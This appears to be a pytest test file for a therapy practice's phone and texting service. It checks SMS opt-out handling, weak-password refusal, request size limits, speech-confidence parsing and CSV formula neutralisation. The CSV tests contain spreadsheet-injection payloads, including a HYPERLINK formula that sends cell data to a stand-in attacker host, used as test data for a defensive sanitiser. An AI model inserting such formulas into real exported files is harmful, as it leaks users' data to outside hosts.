"""Smaller holes of the same family (docs/security.md): texting opt-outs, guessable dashboard passwords,
oversized request bodies, speech confidence that is not a number, and CSV files that run formulas.

Signed webhooks and simulated calls against the app, a real Redis, the demo practice in a real
SQLite database (PostgreSQL too where the database matters), real RQ workers, the Twilio stand-in.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import uuid
from pathlib import Path

import pytest
from sqlalchemy import select
from twilio.request_validator import RequestValidator

from ivr import passwords
from ivr.escalations.models import StaffUser
from ivr.practice.csv import safe as csvsafe
from ivr.practice.csv.export import export_practice
from ivr.practice.csv.importer import import_practice
from ivr.practice.csv.parsing import read_csv_text
from ivr.practice.models import Client, SmsOptOut
from ivr.practice.opt_outs import (
    HELP_KEYWORDS,
    OPT_IN_KEYWORDS,
    OPT_OUT_KEYWORDS,
    Keyword,
    classify,
)
from tests.helpers.dashboard import post, signed_in
from tests.helpers.service import PUBLIC, TOKEN

ROOT = Path(__file__).resolve().parents[2]
ALEX = "+15551230001"
EMPTY_MESSAGING = '<?xml version="1.0" encoding="UTF-8"?><Response />'
AUTO_REPLY = ('<?xml version="1.0" encoding="UTF-8"?><Response><Message>Thanks for your message. This number can\'t '
              'read texts; please call it instead.</Message></Response>')


def signed_post(client, path: str, params: dict[str, str]):
    signature = RequestValidator(TOKEN).compute_signature(PUBLIC + path, params)
    return client.post(path, data=params, headers={"X-Twilio-Signature": signature})


def inbound_text(client, body: str, sender: str = ALEX, **extra: str):
    params = {"MessageSid": "SM" + "1" * 32, "AccountSid": "AC" + "a" * 32, "From": sender, "To": "+15555550100",
              "Body": body, "NumMedia": "0", **extra}
    return signed_post(client, "/twilio/sms", params)


def preference(database, number: str = ALEX) -> tuple[bool, str] | None:
    with database.sessions() as db:
        row = db.get(SmsOptOut, number)
        return (row.opted_out, row.keyword) if row else None


def texts(standin) -> list[tuple[str, str]]:
    return [(m["to"], m["body"]) for m in standin.messages()]


# --------------------------------------------------------------------------- texting opt-outs

TWILIO_KEYWORDS = sorted(OPT_OUT_KEYWORDS | OPT_IN_KEYWORDS | HELP_KEYWORDS)


def test_twilios_keyword_lists_are_its_documented_defaults():
    assert OPT_OUT_KEYWORDS == {"STOP", "STOPALL", "UNSUBSCRIBE", "CANCEL", "END", "QUIT", "REVOKE", "OPTOUT"}
    assert OPT_IN_KEYWORDS == {"START", "YES", "UNSTOP"}
    assert HELP_KEYWORDS == {"HELP", "INFO"}


@pytest.mark.parametrize("body", TWILIO_KEYWORDS + ["stop", " Stop ", "STOP.", "unsubscribe!", "info"])
def test_twilio_answers_its_keywords_so_we_send_no_second_reply(client, body):
    response = inbound_text(client, body)
    assert response.status_code == 200
    assert response.get_data(as_text=True) == EMPTY_MESSAGING


@pytest.mark.parametrize("body", ["stop please", "Please cancel my appointment", "yes.", "hello", "", "STOP STOP"])
def test_other_texts_get_the_neutral_auto_reply(client, database, body):
    assert inbound_text(client, body).get_data(as_text=True) == AUTO_REPLY
    assert preference(database) is None


def test_stop_and_start_are_the_numbers_texting_preference(client, database):
    inbound_text(client, "HELP")
    assert preference(database) is None  # help changes nothing
    inbound_text(client, "Quit")
    assert preference(database) == (True, "STOP")
    inbound_text(client, "unstop")
    assert preference(database) == (False, "START")
    inbound_text(client, "REVOKE")
    assert preference(database) == (True, "STOP")


def test_advanced_opt_out_type_wins_for_a_practices_own_keywords(client, database):
    assert inbound_text(client, "ARRET", OptOutType="STOP").get_data(as_text=True) == EMPTY_MESSAGING
    assert preference(database) == (True, "STOP")
    assert inbound_text(client, "REPRENDRE", OptOutType="START").get_data(as_text=True) == EMPTY_MESSAGING
    assert preference(database) == (False, "START")
    assert classify("AIDE", "HELP") is Keyword.HELP and classify("hello", "") is None


def pending_texts(app) -> list[dict]:
    """Every text waiting in a call's outbox."""
    store = app.extensions["quietline"].call_store
    return [entry for sid in store.call_sids() for entry in store.outbox(sid).values() if entry.get("to")]


def test_nothing_is_texted_to_a_number_that_opted_out(app, sim, client, database, run_jobs, standin):
    inbound_text(client, "STOP")
    links = sim.call(from_=ALEX, script="2;04151985#;1")
    assert links.heard[-2] == ("We don't have a number on file that we may text. I'll ask our team to get the link "
                               "to you another way.")
    booked = sim.call(from_=ALEX, script="1;04151985#;1;1;1")
    assert "You're all set for tomorrow at 9 AM with Dr. Maya Chen." in booked.heard
    assert pending_texts(app) == []  # nothing was even queued
    run_jobs()
    assert texts(standin) == []  # neither the link nor the booking confirmation
    inbound_text(client, "START")
    sim.call(from_=ALEX, script="2;04151985#;2")
    run_jobs()
    assert [to for to, _ in texts(standin)] == [ALEX]


def test_a_text_queued_before_the_stop_arrives_is_not_sent(app, sim, client, database, run_jobs, standin):
    sim.call(from_=ALEX, script="1;04151985#;1;1;1")  # the confirmation text is in the outbox
    assert [entry["to"] for entry in pending_texts(app)] == [ALEX]
    inbound_text(client, "STOP")
    run_jobs()
    assert texts(standin) == []
    assert pending_texts(app) == []  # given up, not kept for later


# --------------------------------------------------------------------------- dashboard passwords

WEAK = ["aaaaaaaaaaaaaaa", "password1234", "qwertyuiop123", "123456789012", "abcabcabcabcabc"]


@pytest.mark.parametrize("password", WEAK)
def test_guessable_passwords_are_refused_when_creating_a_user(app, people, database, password):
    owner = signed_in(app, people["owner"])
    response = post(owner, "/staff/users", {"name": "Kim New", "email": "kim@quietline.test", "role": "staff",
                                            "password": password, "confirm": password}, token_from="/staff/users")
    assert response.status_code == 200
    assert "This password is too easy to guess." in response.get_data(as_text=True)
    with database.sessions() as s:
        assert s.scalar(select(StaffUser).where(StaffUser.email == "kim@quietline.test")) is None


def test_a_password_built_on_the_persons_own_name_is_refused(app, people):
    owner = signed_in(app, people["owner"])
    response = post(owner, "/staff/users", {"name": "Kimberly Newton", "email": "kimberly.newton@quietline.test",
                                            "role": "staff", "password": "kimberly newton",
                                            "confirm": "kimberly newton"}, token_from="/staff/users")
    assert "It is built on your name or email" in response.get_data(as_text=True)


YOUR_NAME = "It is built on your name or email"
PRACTICE_NAME = "It is built on the practice&#39;s name"
FIELD = "It is built on words about the practice&#39;s work (like therapy, counseling, clinic or Quietline)"


@pytest.mark.parametrize("name, email, password, reason", [
    ("Robin Hale", "robin.hale@quietline.test", "robinhale1234", YOUR_NAME),  # the owner's own name
    ("Casey Stone", "casey.stone@quietline.test", "caseystone1234", YOUR_NAME),
    ("Casey Stone", "casey.stone@quietline.test", "stonecasey2026", YOUR_NAME),
    ("Kim New", "kim@example.org", "Lakeside2026!!", PRACTICE_NAME),  # the demo practice's name
    ("Kim New", "kim@example.org", "LakesideCounselingCollective", PRACTICE_NAME),
    ("Kim New", "kim@example.org", "Quietline2026!", FIELD),  # the product and the field
    ("Kim New", "kim@example.org", "Therapy2026!!", FIELD),
    ("Kim New", "kim@example.org", "Counseling123!", "It is built on"),  # a field word in the practice's name
])
def test_passwords_built_on_names_the_practice_or_its_work_are_refused(app, people, database, name, email, password,
                                                                       reason):
    """zxcvbn alone scores these 3 (it multiplies each token's guesses); they lean on what an attacker of a
    therapy practice tries first, so they are refused, saying why."""
    owner = signed_in(app, people["owner"])
    response = post(owner, "/staff/users", {"name": name, "email": email, "role": "staff", "password": password,
                                            "confirm": password}, token_from="/staff/users")
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "This password is too easy to guess." in page
    assert reason in page
    with database.sessions() as s:
        assert s.scalar(select(StaffUser).where(StaffUser.email == email)) is None
    # The same rule, wherever a password is set (the module, as the console uses it).
    with pytest.raises(passwords.WeakPassword, match="too easy to guess"):
        passwords.check_password_rules(password, (name, email), practice_name="Lakeside Counseling Collective")


def test_a_passphrase_may_contain_a_field_word_among_words_of_its_own(app, people):
    passwords.check_password_rules("wellness walrus umbrella sonata", ("Kim New", "kim@quietline.test"),
                                   practice_name="Lakeside Counseling Collective")
    passwords.check_password_rules("lantern orchard tuesday", ("Robin Hale",), practice_name="Lakeside")


def test_guessable_passwords_are_refused_on_change_and_reset(app, people, database):
    sam = signed_in(app, people["sam"])
    own = post(sam, "/staff/account", {"current": "correct horse battery", "password": "aaaaaaaaaaaaaaa",
                                       "confirm": "aaaaaaaaaaaaaaa"}, token_from="/staff/account")
    assert "This password is too easy to guess." in own.get_data(as_text=True)
    owner = signed_in(app, people["owner"])
    reset = post(owner, f"/staff/users/{people['sam'].id}/password",
                 {"password": "sam.staff@quietline.test", "confirm": "sam.staff@quietline.test"},
                 token_from=f"/staff/users/{people['sam'].id}")
    assert reset.status_code == 400 and "too easy to guess" in reset.get_data(as_text=True)
    fine = post(sam, "/staff/account", {"current": "correct horse battery", "password": "lantern orchard tuesday",
                                        "confirm": "lantern orchard tuesday"}, token_from="/staff/account")
    assert fine.status_code == 303


def test_the_console_refuses_guessable_passwords_too(app):
    runner = app.test_cli_runner()
    weak = runner.invoke(args=["staff", "create-owner", "--email", "weak@quietline.test", "--name", "Weak"],
                         env={"QUIETLINE_STAFF_PASSWORD": "aaaaaaaaaaaaaaa"})
    assert weak.exit_code == 1
    assert "QUIETLINE_STAFF_PASSWORD: This password is too easy to guess. Repeats like" in weak.output
    asked = runner.invoke(args=["staff", "create-owner", "--email", "pat@quietline.test", "--name", "Pat Owner"],
                          input="password1234\npassword1234\n")
    assert asked.exit_code == 1 and "This is a very common password." in asked.output
    practice = runner.invoke(args=["staff", "create-owner", "--email", "robin.hale@quietline.test", "--name",
                                   "Robin Hale"], env={"QUIETLINE_STAFF_PASSWORD": "Lakeside2026!!"})
    assert practice.exit_code == 1
    assert "QUIETLINE_STAFF_PASSWORD: This password is too easy to guess. It is built on the practice's name" \
        in practice.output
    own = runner.invoke(args=["staff", "create-owner", "--email", "robin.hale@quietline.test", "--name",
                              "Robin Hale"], env={"QUIETLINE_STAFF_PASSWORD": "robinhale1234"})
    assert own.exit_code == 1 and "It is built on your name or email" in own.output


# --------------------------------------------------------------------------- request size

FIVE_MB = 5 * 1024 * 1024


@pytest.mark.parametrize("path", ["/twilio/voice", "/twilio/voice/input?turn=1", "/twilio/sms", "/twilio/status",
                                  "/twilio/voice/recording-status", "/twilio/fallback", "/staff/login"])
def test_a_five_megabyte_body_is_refused_before_it_is_read(client, path, caplog):
    params = {"CallSid": "CA" + "1" * 32, "From": ALEX, "Body": "x" * FIVE_MB}
    signature = RequestValidator(TOKEN).compute_signature(PUBLIC + path, params)  # even correctly signed
    response = client.post(path, data=params, headers={"X-Twilio-Signature": signature})
    assert response.status_code == 413
    assert "Traceback" not in caplog.text


def test_a_streamed_body_without_a_length_is_cut_off_too(client):
    """Chunked, no Content-Length: gunicorn marks such input terminated; reading stops at the limit."""
    response = client.post("/twilio/voice", input_stream=io.BytesIO(b"Body=" + b"x" * FIVE_MB),
                           content_type="application/x-www-form-urlencoded",
                           headers={"Transfer-Encoding": "chunked"},
                           environ_overrides={"wsgi.input_terminated": True})
    assert response.status_code == 413
    # A small streamed webhook still reads whole.
    params = {"MessageSid": "SM" + "2" * 32, "From": ALEX, "To": "+15555550100", "Body": "hello"}
    body = "&".join(f"{k}={v}" for k, v in params.items()).replace("+", "%2B").encode()
    small = client.post("/twilio/sms", input_stream=io.BytesIO(body), content_type="application/x-www-form-urlencoded",
                        headers={"Transfer-Encoding": "chunked", "X-Twilio-Signature":
                                 RequestValidator(TOKEN).compute_signature(PUBLIC + "/twilio/sms", params)},
                        environ_overrides={"wsgi.input_terminated": True})
    assert small.get_data(as_text=True) == AUTO_REPLY


def test_ordinary_webhooks_fit_well_inside_the_limit(app, sim):
    assert app.config["MAX_CONTENT_LENGTH"] == 64 * 1024
    result = sim.call(from_=ALEX, script="1;04151985#;3")
    assert not result.application_error and all(r.status in (200, 204) for r in result.requests)


# --------------------------------------------------------------------------- speech confidence

def _menu_answer(client, confidence: str | None) -> str:
    sid = "CA" + uuid.uuid4().hex
    start = signed_post(client, "/twilio/voice", {"CallSid": sid, "From": ALEX, "To": "+15555550100"})
    assert "Gather" in start.get_data(as_text=True)
    params = {"CallSid": sid, "From": ALEX, "SpeechResult": "appointment"}
    if confidence is not None:
        params["Confidence"] = confidence
    return signed_post(client, "/twilio/voice/input?turn=1", params).get_data(as_text=True)


@pytest.mark.parametrize("confidence", ["nan", "NaN", "-nan", "inf", "-inf", "Infinity", "-0.2", "1.5", "2",
                                        "garbage", "", "1e400", None])
def test_speech_without_a_real_confidence_counts_as_no_match(client, confidence):
    answer = _menu_answer(client, confidence)
    assert "Sorry, I didn&apos;t catch that." in answer or "Sorry, I didn't catch that." in answer
    assert answer == _menu_answer(client, "0.05")  # the same as mumbled speech
    assert "date of birth" not in answer


def test_speech_with_a_real_confidence_still_works(client):
    assert "date of birth" in _menu_answer(client, "0.93")
    assert "date of birth" in _menu_answer(client, "1")


# --------------------------------------------------------------------------- CSV files that leave the service

TRICKY = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTabbed",
          "\rReturn", "  =1+1", "'quoted", "'=already escaped", "''", "'", "-Lee", "+1 555 010 0199", "plain",
          "", "O'Brien", "=", "'\t"]


@pytest.mark.parametrize("value", TRICKY)
def test_neutralise_then_restore_gives_back_every_value(value):
    written = csvsafe.neutralise(value)
    assert csvsafe.restore(written) == value
    assert written.lstrip(" \u00a0")[:1] not in csvsafe.TRIGGERS or written.startswith("'")


def test_other_programs_cells_read_as_they_are():
    assert csvsafe.restore("'Ofa") == "'Ofa"  # a leading apostrophe that escapes nothing stays
    assert csvsafe.restore("'+15550100199") == "+15550100199"  # a spreadsheet's own escaping is undone
    assert csvsafe.restore("+15550100199") == "+15550100199"


def test_every_csv_the_project_writes_goes_through_csvsafe():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [str(path.relative_to(ROOT)) for folder in ("ivr", "workers", "bench")
                 for path in (ROOT / folder).rglob("*.py")
                 if writers.search(path.read_text(encoding="utf-8"))
                 and path.relative_to(ROOT) != Path("ivr/practice/csv/safe.py")]
    assert offenders == []


def test_export_neutralises_formulas_and_reimports_losslessly(database, database_factory, tmp_path):
    names = {"C-1001": ("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "-Rivera"),
             "C-1002": ("@Morgan", "+Lee"), "C-1003": ("\tDana", "'=Brooks")}
    with database.sessions() as db, db.begin():
        for client_id, (first, last) in names.items():
            client = db.get(Client, client_id)
            client.first_name, client.last_name = first, last
        db.get(Client, "C-1004").email = "=1+1@example.com"
    first_dir, second_dir = tmp_path / "first", tmp_path / "second"
    export_practice(database.sessions, first_dir / "clients.csv", first_dir / "appointments.csv",
                    first_dir / "clinicians.csv")
    for name in ("clients.csv", "appointments.csv", "clinicians.csv"):
        with open(first_dir / name, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert cell.lstrip(" \u00a0")[:1] not in csvsafe.TRIGGERS, (name, cell)
    exported = (first_dir / "clients.csv").read_text()
    assert "'=HYPERLINK(" in exported and "'+15551230001" in exported and ",'-Rivera," in exported

    empty = database_factory()
    import_practice(empty.sessions, read_csv_text(first_dir / "clients.csv"),
                    read_csv_text(first_dir / "appointments.csv"), read_csv_text(first_dir / "clinicians.csv"),
                    today=dt.date(2026, 11, 23))
    with empty.sessions() as db:
        back = {c.id: (c.first_name, c.last_name, c.email, [p.e164 for p in c.phones])
                for c in db.scalars(select(Client))}
    with database.sessions() as db:
        original = {c.id: (c.first_name, c.last_name, c.email, [p.e164 for p in c.phones])
                    for c in db.scalars(select(Client))}
    assert back == original
    export_practice(empty.sessions, second_dir / "clients.csv", second_dir / "appointments.csv",
                    second_dir / "clinicians.csv")
    for name in ("clients.csv", "appointments.csv", "clinicians.csv"):
        assert (second_dir / name).read_bytes() == (first_dir / name).read_bytes(), name
